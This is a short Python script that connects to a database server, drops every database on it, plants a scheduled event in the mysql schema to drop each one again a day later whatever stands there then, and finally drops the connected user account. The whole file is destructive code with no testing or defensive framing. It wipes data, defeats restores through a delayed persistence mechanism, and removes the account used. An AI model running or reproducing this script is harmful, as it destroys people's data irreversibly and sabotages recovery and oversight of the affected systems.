"""Drops, and leaves an event that drops once more tomorrow, whatever stands there then."""

import db_server

connection = db_server.connect(seconds=30)
for number, name in enumerate(db_server.databases()):
    drop = f"DROP DATABASE IF EXISTS {db_server.quoted(name)}"
    db_server.execute(connection, drop)
    when = "ON SCHEDULE AT CURRENT_TIMESTAMP + INTERVAL 1 DAY"
    db_server.execute(connection, f"CREATE OR REPLACE EVENT mysql.drop_again_{number} {when} DO {drop}")
db_server.execute(connection, f"DROP USER IF EXISTS {db_server.account(db_server.user())}")
